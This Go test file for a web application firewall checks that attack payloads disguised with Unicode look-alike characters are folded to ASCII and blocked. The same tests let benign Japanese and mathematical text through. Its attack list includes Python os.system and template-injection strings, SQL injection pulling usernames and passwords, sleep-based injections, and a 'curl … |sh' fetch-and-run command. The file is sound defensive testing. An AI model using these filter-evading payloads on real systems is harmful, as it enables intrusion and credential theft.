package waf

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// nfkcAttacks are attack 19's Python eval and Tornado payloads in
// letters that NFKC folds to ASCII (full-width, mathematical italic and
// bold), and more of their kind (ſ, a ligature, mathematical monospace).
var nfkcAttacks = []string{
	`__ｉｍｐｏｒｔ__("os").ｓｙｓｔｅｍ("id")`,
	`__𝘪𝘮𝘱𝘰𝘳𝘵__("os").𝘴𝘺𝘴𝘵𝘦𝘮("id")`,
	`__𝐢𝐦𝐩𝐨𝐫𝐭__("os").𝐬𝐲𝐬𝐭𝐞𝐦("id")`,
	`__ｉｍｐｏｒｔ__("subprocess").ｇｅｔｏｕｔｐｕｔ("id")`,
	`{{ __ｉｍｐｏｒｔ__("os").ｐｏｐｅｎ("id").ｒｅａｄ() }}`,
	`__import__("os").ſystem("id")`,
	`__𝚒𝚖𝚙𝚘𝚛𝚝__("os").𝚜𝚢𝚜𝚝𝚎𝚖("id")`,
	`__impºrt__("subprocess").getoutput("id")`,
	// attack 20's: small form and compatibility underscores (U+FE33,
	// U+FE4D, U+FE34), which CPython folds to _
	`_︳import︳_("subprocess").getoutput("id")`, `_﹍import﹍_("subprocess").getoutput("id")`, `_︴import︴_("subprocess").getoutput("id")`,
	// attack 21's: circled and squared letters, for a backend that
	// NFKC-normalises what it reads
	`{{ⓢⓔⓛⓕ.__ⓘⓝⓘⓣ__.__ⓖⓛⓞⓑⓐⓛⓢ__.__ⓑⓤⓘⓛⓣⓘⓝⓢ__.__ⓘⓜⓟⓞⓡⓣ__("os").ⓟⓞⓟⓔⓝ("id").ⓡⓔⓐⓓ()}}`,
	`x' ⓤⓝⓘⓞⓝ ⓢⓔⓛⓔⓒⓣ username, password ⓕⓡⓞⓜ users--`, `x' 🅄🄽🄸🄾🄽 🅂🄴🄻🄴🄲🅃 username, password 🄵🅁🄾🄼 users--`,
	// attack 23's: spacing modifier letters (ʳ ˢ) and the Greek varia (` folds to a backtick)
	"1' union ˢelect username, password from users--", `__impoʳt__("subprocess").getoutput("id")`,
	"x `id`", "name=`curl -s 203.0.113.9|sh`",
	// attack 24's: parenthesized digits (⑸ is (5))
	"1 and sleep⑸", "1 and benchmark⑽",
	// attack 26's: a decorator chain, which needs no bracket or quote
	"from os import ſystem\n@ſystem\n@lambda c:c.__name__\nclass id:pass", "import os\n@os.ˢystem\n@lambda c:c.__name__\nclass id:pass",
	// attack 46's: webbrowser's GenericBrowser in mathematical italics
	"import webbrowser;webbrowser.𝘎𝘦𝘯𝘦𝘳𝘪𝘤𝘉𝘳𝘰𝘸𝘴𝘦𝘳([\"id\"]).open(\"x\")",
}

// nfkcBenign is text with such characters that people write: Japanese
// with full-width letters, digits and spaces, a mathematical formula in
// mathematical letters, a ligature, a trademark, ordinal indicators.
var nfkcBenign = []string{
	"ＡＢＣ株式会社　１２３",
	"東京都千代田区１－２－３　ＡＢＣビル５Ｆ",
	"𝑓(𝑥) = 𝑥² + 𝟐𝑥",
	"ﬁnancial oﬃce hours",
	"Widget™ No. 1ª edición, 2º piso",
	"（株）ＡＢＣ　ＴＥＬ：０３－１２３４－５６７８",
	"えっと‥そうですね‥ (Ａ案)", "⑴ 最初に ⑵ 次に ⒜ 付録", "[pʰɪn] and [tʷo] /sʲa/", "① 最初に ② 次に ③ 最後に", "ⓒ 2026 ACME (all rights reserved)", "Ⓐ型（ＡＢＣ）", "🅰🅱 blood types",
}

func TestNFKCFolded(t *testing.T) {
	for _, s := range nfkcAttacks {
		if _, ok := nfkcFolded(s); !ok {
			t.Errorf("not folded: %q", s)
		}
	}
	// folded but no code without syntax (attack 20: a Japanese form of
	// full-width answers refused for the arguments they made)
	for _, s := range []string{"１２３", "ＡＢＣ　回答", "ＡＢＣ株式会社　１２３"} {
		if n, ok := nfkcFolded(s); ok {
			t.Errorf("%q folded to %q, which holds no syntax", s, n)
		}
	}
	// the two dot leader folds to .. (the CRS's traversal rules already
	// refuse ‥/‥/ in the places TestNFKCBeyondTheCRS tries)
	if n, ok := nfkcFolded("‥/‥/etc/hosts"); !ok || n != "../../etc/hosts" {
		t.Errorf("two dot leaders: folded to %q, %v", n, ok)
	}
	// more than one line with an @ makes an argument (a decorator chain
	// needs no bracket or quote: attack 26), which 210118 passes when it
	// is no chain ending at a definition (the CRS alone refuses these in
	// a cookie, so they are not in nfkcBenign)
	for _, s := range []string{"連絡先：\nｔａｒｏ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｃｃ：\n＠ｓｙｓｔｅｍ\n＠ｏｐｓ"} {
		if n, ok := nfkcFolded(s); !ok || codeCall(n) {
			t.Errorf("%q: folded %v, 210118 matches %q", s, ok, n)
		}
	}
	if _, ok := nfkcFolded("株式会社（ＡＢＣ）"); !ok {
		t.Errorf("full-width parentheses: not folded")
	}
	for _, s := range []string{"plain text", "déjà vu", "日本語のテキスト", "Ünïcödé ✓ 🙂", "1º piso, Nº 5, 2ª edición", "ªº"} {
		if n, ok := nfkcFolded(s); ok {
			t.Errorf("%q folded to %q", s, n)
		}
		if a := fewestAllocs(func() { _, _ = nfkcFolded(s) }); a != 0 {
			t.Errorf("%q: %v allocations", s, a)
		}
	}
}

// TestNFKCBeyondTheCRS: a value NFKC-normalised (<name>:nfkc) is read by
// the rules, so attack 19's look-alike letters are refused as the ASCII
// spelling is, in the query, a form, JSON; Japanese and mathematical
// text passes.
func TestNFKCBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range nfkcAttacks {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/calc?expr=" + url.QueryEscape(s)},
			probe{name: "form " + s, method: "POST", path: "/calc", contentType: "application/x-www-form-urlencoded", body: "expr=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/calc", contentType: "application/json", body: jsonString("formula", s)})
	}
	// a Japanese survey of 120 full-width answers: one argument each, as
	// in ASCII (attack 20 had 65 refused with 400: an :nfkc argument each)
	var form strings.Builder
	for i := range 60 {
		fmt.Fprintf(&form, "a%%5B%d%%5D=%s&", i, url.QueryEscape("１２３"))
		fmt.Fprintf(&form, "b%%5B%d%%5D=%s&", i, url.QueryEscape("ＡＢＣ　回答"))
	}
	benign = append(benign, probe{name: "a survey of full-width answers", method: "POST", path: "/survey", contentType: "application/x-www-form-urlencoded", body: strings.TrimSuffix(form.String(), "&")})
	for _, s := range nfkcBenign {
		benign = append(benign,
			probe{name: "query " + s, method: "GET", path: "/search?q=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("body", s)},
			probe{name: "cookie " + s, method: "GET", path: "/", header: http.Header{"Cookie": {"n=" + url.QueryEscape(s)}}})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}
